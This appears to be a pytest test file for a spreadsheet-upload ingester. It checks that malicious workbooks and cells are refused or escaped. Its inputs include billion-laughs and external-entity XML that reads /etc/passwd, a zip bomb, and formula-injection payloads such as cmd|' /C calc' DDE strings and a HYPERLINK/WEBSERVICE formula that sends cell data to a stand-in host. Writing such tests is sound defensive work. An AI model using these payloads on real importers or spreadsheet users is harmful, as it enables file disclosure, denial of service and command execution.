"""Files made to do harm: refused with a sentence, or read as the plain text that they hold."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
import python_calamine
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from ingest_office import Office

from tinhso.measure.ingest import formats
from tinhso.measure.spreadsheets import safe_cell
from tinhso.measure.text import InputError

HEAD = "dossier_code,unit_code,procedure_code,service_level,received_at,submitted_online"
PAYLOADS = [
    *("=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"),
    *('=HYPERLINK("http://x.example?x="&A1)', " =1+1", "'=1+1", "\u00a0=1", "＝1+1", "\n=1", "\0=1"),
    *("=WEBSERVICE(\"http://x.example\")", "=DDE(\"soffice\";\"x\";\"y\")", "|cmd", "%0A=1+1"),
]  # fmt: skip


def workbook_with(sheet: bytes = b"", shared: bytes = b"") -> bytes:
    """A workbook of one cell whose sheet or shared strings are replaced."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.add_worksheet().write_row(0, 0, HEAD.split(","))
    made = io.BytesIO()
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            if sheet and name == "xl/worksheets/sheet1.xml":
                content = sheet
            if shared and name == "xl/sharedStrings.xml":
                content = shared
            new.writestr(name, content)
    return made.getvalue()


def shared_with(doctype: bytes, text: bytes) -> bytes:
    texts = b"".join(b"<si><t>" + name.encode() + b"</t></si>" for name in HEAD.split(",")[1:])
    return (
        b'<?xml version="1.0"?>' + doctype
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b"<si><t>" + text + b"</t></si>" + texts + b"</sst>"
    )  # fmt: skip


def laughs(levels: int = 12) -> bytes:
    lines = [b'<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">'.encode() for n in range(1, levels)]
    return b"<!DOCTYPE sst [" + b"".join(lines) + b"]>"


@pytest.mark.parametrize(
    ("doctype", "text"),
    [
        (laughs(), b"&a11;"),
        (b'<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;"),
        (b'<!DOCTYPE sst SYSTEM "http://127.0.0.1:9/x.dtd">', b"a"),
    ],
    ids=["billion laughs", "external entity", "external DTD"],
)
def test_entities_neither_grow_nor_read_files(office: Office, doctype: bytes, text: bytes) -> None:
    content = workbook_with(shared=shared_with(doctype, text))
    with pytest.raises(InputError) as raised:
        office.send(content)
    told = "\n".join(problem.to("en") for problem in raised.value.problems)
    assert "root:" not in told
    assert len(told) < 5000
    try:
        book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content))
        cells = book.get_sheet_by_index(0).to_python()
    except python_calamine.CalamineError:
        return
    assert sum(len(str(cell)) for row in cells for cell in row) < 1000


def test_a_workbook_that_unpacks_to_too_much_is_refused(
    office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(formats, "MOST_UNPACKED", 20 << 20)
    bomb = workbook_with(sheet=b" " * (64 << 20))
    assert len(bomb) < 200_000
    with pytest.raises(InputError) as raised:
        office.send(bomb)
    assert raised.value.problems[0].code == "unpacks-too-large"


def test_two_cells_in_opposite_corners_are_refused_and_not_made_room_for(office: Office) -> None:
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    near = b'<row r="1"><c r="A1"><v>1</v></c></row>'
    sheet = b"<worksheet><sheetData>" + near + far + b"</sheetData></worksheet>"
    content = workbook_with(sheet=sheet)
    assert len(content) < 8000
    with pytest.raises(InputError) as raised:
        office.send(content)
    assert [one.code for one in raised.value.problems] == ["sparse"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_could_run_is_shown_instead(payload: str) -> None:
    assert safe_cell(payload).startswith("'")
    assert safe_cell(payload)[1:] == payload or payload.startswith("'")


@given(st.text(max_size=40))
def test_no_cell_of_a_csv_begins_like_a_formula_and_all_its_text_stays(text: str) -> None:
    cell = safe_cell(text)
    assert cell in (text, f"'{text}")
    assert cell.strip(" \u00a0\u200b\ufeff")[:1] not in tuple("=+-@\t\r\n\0")
    out = io.StringIO()
    csv.writer(out).writerow([cell, "x"])
    if not {"\0", "\r", "\n"} & set(cell):
        assert next(csv.reader(io.StringIO(out.getvalue()))) == [cell, "x"]


def test_a_returned_workbook_holds_formulas_as_text_and_can_be_sent_in_again(
    office: Office, tmp_path: Path
) -> None:
    """The sender's own cells go back as they came, so that mending them is all there is to do."""
    sent = tmp_path / "gui.xlsx"
    with xlsxwriter.Workbook(sent, {"strings_to_formulas": False}) as book:
        sheet = book.add_worksheet()
        for row, cells in enumerate([HEAD.split(","), ["=1+1", "99999", "1.1", "full", "x", "1"]]):
            for column, cell in enumerate(cells):
                sheet.write_string(row, column, cell)
    receipt = office.send(sent, returned_to=tmp_path)
    assert receipt.returned is not None
    with zipfile.ZipFile(receipt.returned) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    book = python_calamine.CalamineWorkbook.from_path(receipt.returned)
    assert book.get_sheet_by_index(0).to_python()[1][0] == "=1+1"
    assert office.send(receipt.returned).bad == 1
